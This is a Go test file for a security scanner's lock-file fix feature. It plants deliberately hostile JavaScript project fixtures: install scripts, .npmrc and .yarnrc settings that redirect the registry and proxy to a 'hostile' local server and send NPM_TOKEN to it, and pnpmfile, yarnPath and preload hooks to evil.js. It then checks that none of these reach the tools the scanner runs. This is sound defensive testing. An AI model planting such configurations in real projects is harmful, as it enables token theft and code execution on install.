package fix_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/trifecta-scanner/trifecta/fix"
	"github.com/trifecta-scanner/trifecta/fix/fixtest"
	"github.com/trifecta-scanner/trifecta/internal/web"
	"github.com/trifecta-scanner/trifecta/inventory"
)

// pack makes the archive of a release whose every script leaves the canary.
func pack(t *testing.T, canary, name, version string) (archive []byte, integrity string) {
	t.Helper()
	manifest, err := json.Marshal(map[string]any{"name": name, "version": version, "scripts": map[string]string{
		"preinstall": "touch " + canary, "install": "touch " + canary, "postinstall": "touch " + canary, "prepare": "touch " + canary,
	}})
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	z := gzip.NewWriter(&buf)
	w := tar.NewWriter(z)
	_, writing := w, w.WriteHeader(&tar.Header{Name: "package/package.json", Mode: 0o644, Size: int64(len(manifest))})
	_, more := w.Write(manifest)
	if err := errors.Join(writing, more, w.Close(), z.Close()); err != nil {
		t.Fatal(err)
	}
	sum := sha512.Sum512(buf.Bytes())
	return buf.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// newPackTrap is newTrap with archives: words 1.0.1 has letters as a peer, so that pnpm has to find it. The registry also
// has the programs that lock files are completed with, where TRIFECTA_TOOL_CACHE holds them.
func newPackTrap(t *testing.T) *trap {
	t.Helper()
	tr := &trap{canary: filepath.Join(t.TempDir(), "canary")}
	releases := map[string][]string{"words": {"1.0.0", "1.0.1"}, "letters": {"1.0.0"}}
	archives := map[string][]byte{}
	sums := map[string]string{}
	for name, versions := range releases {
		for _, version := range versions {
			key := fmt.Sprintf("/%s/-/%s-%s.tgz", name, name, version)
			archives[key], sums[key] = pack(t, tr.canary, name, version)
		}
	}
	tr.registry = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tr.mu.Lock()
		defer tr.mu.Unlock()
		for name, value := range r.Header {
			if strings.Contains(strings.Join(value, ""), "SECRET") {
				tr.fired = append(tr.fired, "the registry was sent "+name)
			}
		}
		if data := archives[r.URL.Path]; data != nil {
			_, _ = w.Write(data) // a test's own server
			return
		}
		name := strings.TrimPrefix(r.URL.Path, "/")
		if releases[name] == nil {
			http.NotFound(w, r)
			return
		}
		all := map[string]any{}
		for _, version := range releases[name] {
			key := fmt.Sprintf("/%s/-/%s-%s.tgz", name, name, version)
			release := map[string]any{
				"name": name, "version": version, "dist": map[string]string{"tarball": tr.registry.URL + key, "integrity": sums[key]},
				"scripts": map[string]string{"postinstall": "touch " + tr.canary}, "hasInstallScript": true,
			}
			if version == "1.0.1" {
				release["peerDependencies"] = map[string]string{"letters": "^1.0.0"}
			}
			all[version] = release
		}
		_ = json.NewEncoder(w).Encode(map[string]any{ // a test's own server
			"name": name, "dist-tags": map[string]string{"latest": slices.Max(releases[name])}, "versions": all,
			"time": map[string]string{"1.0.0": "2020-01-01T00:00:00Z", "1.0.1": "2020-02-01T00:00:00Z"},
		})
	}))
	t.Cleanup(tr.registry.Close)
	tr.hostile = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		tr.mu.Lock()
		defer tr.mu.Unlock()
		tr.fired = append(tr.fired, "the hostile server was asked for "+r.URL.Path)
	}))
	t.Cleanup(tr.hostile.Close)
	return tr
}

// spy is a Runner that keeps what was to run, and lets it run where that is possible.
type spy struct {
	under    fix.Runner
	commands []fix.Command
	ran      bool
}

func (s *spy) Run(ctx context.Context, ws *fix.Workspace, cmd fix.Command) ([]byte, error) {
	s.commands = append(s.commands, cmd)
	if s.under == nil {
		return nil, &fix.ToolError{Program: cmd.Program, Missing: true}
	}
	s.ran = true
	return s.under.Run(ctx, ws, cmd)
}

func TestCanariesJavaScript(t *testing.T) {
	const evilManifest = `{"name": "shop", "version": "1.0.0", "packageManager": "MANAGER", "dependencies": {"letters": "1.0.0", "words": "1.0.0"}, "engines": {"node": ">=1", "pnpm": ">=99", "yarn": ">=99"},
  "scripts": {"preinstall": "touch CANARY", "install": "touch CANARY", "postinstall": "touch CANARY", "prepare": "touch CANARY", "pnpm:devPreinstall": "touch CANARY"},
  "pnpm": {"executionEnv": {"nodeVersion": "1.0.0"}, "onlyBuiltDependencies": ["words"], "configDependencies": {"evil": "1.0.0"}}}`
	const npmrc = "registry=HOSTILE/\n//HOSTILEHOST/:_authToken=${NPM_TOKEN}\n//REGISTRYHOST/:_authToken=${NPM_TOKEN}\nproxy=HOSTILE\npnpmfile=./evil.js\nglobal-pnpmfile=./evil.js\nignore-pnpmfile=false\nignore-scripts=false\nscript-shell=./evil.sh\nnode-options=--require=./evil.js\nuse-node-version=1.0.0\nnode-mirror:release=HOSTILE/\n"
	tests := []struct {
		name, manager, lock, text string
		files                     map[string]string
		runs                      bool
	}{
		{
			name: "pnpm", manager: "pnpm@1.0.0", lock: "pnpm-lock.yaml", runs: true,
			text: "lockfileVersion: '9.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\nimporters:\n\n  .:\n    dependencies:\n      letters:\n        specifier: 1.0.0\n        version: 1.0.0\n      words:\n        specifier: 1.0.0\n        version: 1.0.0\n\npackages:\n\n  letters@1.0.0:\n    resolution: {integrity: LETTERS}\n\n  words@1.0.0:\n    resolution: {integrity: WORDS}\n\nsnapshots:\n\n  letters@1.0.0: {}\n\n  words@1.0.0: {}\n",
			files: map[string]string{
				".npmrc": npmrc, ".pnpmfile.cjs": "require('fs').writeFileSync('CANARY', '')\n", ".pnpmfile.mjs": "import fs from 'fs'; fs.writeFileSync('CANARY', '')\n",
				"pnpm-workspace.yaml": "packages: [., ../../*]\npnpmfile: evil.js\nconfigDependencies:\n  evil: 1.0.0+sha512-AAAA\nuseNodeVersion: 1.0.0\nscriptShell: ./evil.sh\nregistries:\n  default: HOSTILE/\nnodeOptions: --require=./evil.js\n",
			},
		},
		{
			name: "pnpm 8", manager: "pnpm@1.0.0", lock: "pnpm-lock.yaml", runs: true,
			text:  "lockfileVersion: '6.0'\n\nsettings:\n  autoInstallPeers: true\n  excludeLinksFromLockfile: false\n\ndependencies:\n  letters:\n    specifier: 1.0.0\n    version: 1.0.0\n  words:\n    specifier: 1.0.0\n    version: 1.0.0\n\npackages:\n\n  /letters@1.0.0:\n    resolution: {integrity: LETTERS}\n    requiresBuild: true\n    dev: false\n\n  /words@1.0.0:\n    resolution: {integrity: WORDS}\n    requiresBuild: true\n    dev: false\n",
			files: map[string]string{".npmrc": npmrc, "pnpmfile.js": "require('fs').writeFileSync('CANARY', '')\n"},
		},
		{
			name: "yarn 4", manager: "yarn@1.0.0", lock: "yarn.lock", runs: true,
			text: "# This file is generated by running \"yarn install\" inside your project.\n# Manual changes might be lost - proceed with caution!\n\n__metadata:\n  version: 8\n  cacheKey: 10c0\n\n\"letters@npm:1.0.0\":\n  version: 1.0.0\n  resolution: \"letters@npm:1.0.0\"\n  languageName: node\n  linkType: hard\n\n\"shop@workspace:.\":\n  version: 0.0.0-use.local\n  resolution: \"shop@workspace:.\"\n  dependencies:\n    letters: \"npm:1.0.0\"\n    words: \"npm:1.0.0\"\n  languageName: unknown\n  linkType: soft\n\n\"words@npm:1.0.0\":\n  version: 1.0.0\n  resolution: \"words@npm:1.0.0\"\n  languageName: node\n  linkType: hard\n",
			files: map[string]string{
				".yarnrc.yml": "yarnPath: ./evil.js\nplugins:\n  - path: ./evil.js\n    spec: \"@yarnpkg/plugin-evil\"\nnpmRegistryServer: HOSTILE\nnpmAuthToken: \"${NPM_TOKEN}\"\nnpmAlwaysAuth: true\nhttpProxy: HOSTILE\nunsafeHttpWhitelist: [\"*\"]\nenableScripts: true\n",
				".npmrc":      npmrc, ".yarnrc": "yarn-path ./evil.js\nregistry HOSTILE\n",
			},
		},
		{
			name: "yarn 1", manager: "yarn@1.0.0", lock: "yarn.lock",
			text:  "# yarn lockfile v1\n\n\nletters@1.0.0:\n  version \"1.0.0\"\n  resolved \"REGISTRY/letters/-/letters-1.0.0.tgz\"\n  integrity LETTERS\n\nwords@1.0.0:\n  version \"1.0.0\"\n  resolved \"REGISTRY/words/-/words-1.0.0.tgz\"\n  integrity WORDS\n",
			files: map[string]string{".yarnrc": "yarn-path ./evil.js\nregistry HOSTILE\n", ".npmrc": npmrc},
		},
		{
			name: "bun", manager: "bun@1.0.0", lock: "bun.lock",
			text: `{"lockfileVersion": 1, "workspaces": {"": {"name": "shop", "dependencies": {"letters": "1.0.0", "words": "1.0.0"}}}, "packages": {
  "letters": ["letters@1.0.0", "", {}, "LETTERS"],
  "words": ["words@1.0.0", "", {}, "WORDS"],
}}`,
			files: map[string]string{"bunfig.toml": "preload = [\"./evil.js\"]\n[install]\nregistry = \"HOSTILE\"\n", ".npmrc": npmrc, "bun.lockb": "#!/bin/sh\ntouch CANARY\n"},
		},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			dir := t.TempDir()
			tr := newPackTrap(t)
			_, sumWords := pack(t, tr.canary, "words", "1.0.0")
			_, sumLetters := pack(t, tr.canary, "letters", "1.0.0")
			names := strings.NewReplacer("MANAGER", test.manager, "CANARY", tr.canary, "HOSTILEHOST", strings.TrimPrefix(tr.hostile.URL, "http://"), "HOSTILE", tr.hostile.URL,
				"REGISTRYHOST", strings.TrimPrefix(tr.registry.URL, "http://"), "REGISTRY", tr.registry.URL, "WORDS", sumWords, "LETTERS", sumLetters)
			files := map[string]string{
				"package.json": evilManifest, test.lock: test.text,
				"evil.js": "require('fs').writeFileSync('CANARY', '')\n", "evil.sh": "#!/bin/sh\ntouch CANARY\n", "node_modules/.bin/node": "#!/bin/sh\ntouch CANARY\n",
			}
			for name, text := range test.files {
				files[name] = text
			}
			for name, text := range files {
				path := filepath.Join(dir, filepath.FromSlash(name))
				if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(names.Replace(text)), 0o755)); err != nil {
					t.Fatal(err)
				}
			}
			tree, err := inventory.OpenTree(t.Context(), dir, inventory.Limits{})
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = tree.Close() }() // it was only read
			judge := fixtest.Judge(words{})
			before, err := judge(t.Context(), tree)
			if err != nil {
				t.Fatal(err)
			}
			env := tr.env(t, dir)
			watch := &spy{}
			if _, err := exec.LookPath("node"); err == nil && os.Getenv("TRIFECTA_TOOL_CACHE") != "" {
				watch.under = &fix.Contained{Getenv: os.Getenv, Outside: dir, Timeout: time.Minute, Cache: os.Getenv("TRIFECTA_TOOL_CACHE"), Client: web.New(web.Options{Tries: 1})}
			}
			env.Runner = watch
			plan, err := fix.MakePlan(t.Context(), tree, before, fix.Options{Env: env, Advisories: words{}})
			if err != nil {
				t.Fatal(err)
			}
			if len(plan.Changes) != 1 {
				t.Fatalf("%d changes, %+v", len(plan.Changes), plan.Unfixed)
			}
			ws := fix.NewWorkspace(tree)
			_, err = plan.Apply(t.Context(), ws, &plan.Changes[0], before, judge)
			var dropped *fix.DroppedError
			if err != nil && !errors.As(err, &dropped) {
				t.Fatal(err)
			}
			tr.check(t)
			if (len(watch.commands) > 0) != test.runs {
				t.Errorf("%d programs ran", len(watch.commands))
			}
			if (watch.ran || !test.runs) && err != nil {
				t.Errorf("the change was not made: %v", err)
			}
			for _, cmd := range watch.commands {
				tame(t, cmd, tr.hostile.URL)
			}
			for _, name := range ws.Changed() {
				if name != "package.json" && name != test.lock {
					t.Errorf("%s changed", name)
				}
			}
			if test.runs && watch.under == nil {
				t.Log("TRIFECTA_TOOL_CACHE does not name the programs: what they were to be given was looked at, and they did not run")
			}
		})
	}
}

// tame looks at everything that a program was to be given.
func tame(t *testing.T, cmd fix.Command, hostile string) {
	t.Helper()
	if cmd.Package == nil || cmd.Program != "node" {
		t.Errorf("%s runs, which the project may have chosen", cmd.Program)
	}
	for _, name := range cmd.Files {
		base := path.Base(name)
		if _, replaced := cmd.Extra[name]; !replaced && base != "pnpm-lock.yaml" && base != "yarn.lock" {
			t.Errorf("it sees %s of the project", name)
		}
	}
	for _, texts := range []map[string]string{cmd.Extra, cmd.Home} {
		for name, text := range texts {
			for _, trap := range []string{hostile, "evil", "touch", "SECRET", "NPM_TOKEN", "packageManager", "executionEnv", "1.0.0+sha512"} {
				if strings.Contains(text, trap) {
					t.Errorf("%s holds %s:\n%s", name, trap, text)
				}
			}
		}
	}
	for _, text := range slices.Concat(cmd.Args, cmd.Env) {
		if strings.Contains(text, hostile) || strings.Contains(text, "SECRET") || strings.Contains(text, "evil") {
			t.Errorf("it is told %s", text)
		}
	}
}
